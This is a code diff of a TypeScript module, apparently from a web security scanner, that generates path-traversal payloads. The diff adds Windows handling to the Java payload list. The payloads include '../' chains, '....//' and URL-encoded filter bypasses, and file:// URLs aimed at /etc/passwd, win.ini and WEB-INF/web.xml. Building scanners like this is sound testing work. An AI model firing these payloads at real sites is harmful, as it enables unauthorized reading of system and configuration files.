@@ -1,4 +1,4 @@
-export type ServerKind = 'java' | 'windows' | 'other';
+export type ServerKind = 'java' | 'other';
 
 /** What is known of the place a file name goes to. */
 export interface TraversalPlace {
@@ -7,6 +7,8 @@ export interface TraversalPlace {
   /** Path of the page that takes the parameter. */
   readonly pagePath: string;
   readonly server: ServerKind;
+  /** A banner or a drive letter somewhere says so. */
+  readonly isWindows: boolean;
   /** Path of the Java web application on its server, `/` for the root; null when unknown. */
   readonly contextPath: string | null;
   /** Path of a static file of the site whose text is known. */
@@ -26,12 +28,11 @@ const DEEP = 12;
  * slash and then up, serves code that takes a full path, that puts a folder in front, and that puts one without its slash.
  */
 export function traversalPayloads(place: TraversalPlace): string[] {
-  const { example, server } = place;
-  const isWindows = server === 'windows' || /^[a-z]:[\\/]/i.test(example);
+  const { example, isWindows } = place;
   const fileUrl = isWindows ? 'file:///c:/windows/win.ini' : `file:///${PASSWD}`;
   // What fetches an address reads files by one, and joins nothing.
   if (/^https?:/i.test(example)) return [fileUrl, `/${up(DEEP)}${isWindows ? WIN_INI : PASSWD}`];
-  const payloads = isWindows ? windowsPayloads() : server === 'java' ? javaPayloads(place) : unixPayloads(place);
+  const payloads = place.server === 'java' ? javaPayloads(place) : isWindows ? windowsPayloads() : unixPayloads(place);
   const folder = example.slice(0, example.lastIndexOf('/') + 1);
   // Code that demands a certain folder in front, a full path or a URL is met halfway.
   if (/^file:/i.test(example)) payloads.unshift(fileUrl);
@@ -55,13 +56,16 @@ function unixPayloads({ example, knownPath }: TraversalPlace): string[] {
   ];
 }
 
+function backslashes(path: string): string {
+  return path.replaceAll('/', '\\');
+}
+
 function windowsPayloads(): string[] {
-  const backslashes = WIN_INI.replace('/', '\\');
   return [
     `/${up(DEEP)}${WIN_INI}`,
-    `\\${up(DEEP, '..\\')}${backslashes}`,
-    `c:\\${backslashes}`,
-    up(DEEP, '..\\') + backslashes,
+    backslashes(`/${up(DEEP)}${WIN_INI}`),
+    backslashes(`c:/${WIN_INI}`),
+    backslashes(up(DEEP) + WIN_INI),
     `/${up(DEEP, '....//')}${WIN_INI}`,
     `%2f${up(DEEP, '%2e%2e%2f')}${WIN_INI.replace('/', '%2f')}`,
     'file:///c:/windows/win.ini',
@@ -76,20 +80,33 @@ function windowsPayloads(): string[] {
  */
 function javaPayloads(place: TraversalPlace): string[] {
   const steps = stepsToContext(place);
-  const fromFolder = [steps, 1].map((count) => `/${up(count)}${WEB_XML}`);
-  const file = `/${up(DEEP)}${PASSWD}`;
-  const payloads = [
-    file,
-    fromFolder[0] ?? '',
-    `/${up(DEEP, '....//')}${PASSWD}`,
-    `/${up(steps, '....//')}${WEB_XML}`,
-    `file:///${PASSWD}`,
-    `/${WEB_XML}`,
-    `/${PASSWD}`,
-    fromFolder[1] ?? '',
-    `%2f${up(DEEP, '%2e%2e%2f')}${PASSWD.replace('/', '%2f')}`,
-  ];
-  return isPathInApplication(place) ? [`/${WEB_XML}`, ...payloads] : payloads;
+  const payloads = place.isWindows
+    ? [
+        `/${up(DEEP)}${WIN_INI}`,
+        `/${up(steps)}${WEB_XML}`,
+        // Filters that know `../` alone leave the other separator.
+        backslashes(`/${up(DEEP)}${WIN_INI}`),
+        backslashes(`/${up(steps)}${WEB_XML}`),
+        `/${up(DEEP, '....//')}${WIN_INI}`,
+        `/${up(steps, '....//')}${WEB_XML}`,
+        'file:///c:/windows/win.ini',
+        `/${WEB_XML}`,
+        backslashes(`c:/${WIN_INI}`),
+        `/${up(1)}${WEB_XML}`,
+      ]
+    : [
+        `/${up(DEEP)}${PASSWD}`,
+        `/${up(steps)}${WEB_XML}`,
+        `/${up(DEEP, '....//')}${PASSWD}`,
+        `/${up(steps, '....//')}${WEB_XML}`,
+        `file:///${PASSWD}`,
+        `/${WEB_XML}`,
+        `/${PASSWD}`,
+        `/${up(1)}${WEB_XML}`,
+        `%2f${up(DEEP, '%2e%2e%2f')}${PASSWD.replace('/', '%2f')}`,
+      ];
+  if (!isPathInApplication(place)) return payloads;
+  return [place.example.startsWith('\\') ? backslashes(`/${WEB_XML}`) : `/${WEB_XML}`, ...payloads];
 }
 
 function folders(path: string): string[] {
@@ -107,5 +124,5 @@ function stepsToContext({ pagePath, contextPath }: TraversalPlace): number {
 function isPathInApplication({ example, pagePath }: TraversalPlace): boolean {
   const own = `/${folders(pagePath).join('/')}/`;
   const given = folders(example.replaceAll('\\', '/'));
-  return example.startsWith('/') && given.length > 0 && own.endsWith(`/${given.join('/')}/`);
+  return /^[\\/]/.test(example) && given.length > 0 && own.endsWith(`/${given.join('/')}/`);
 }
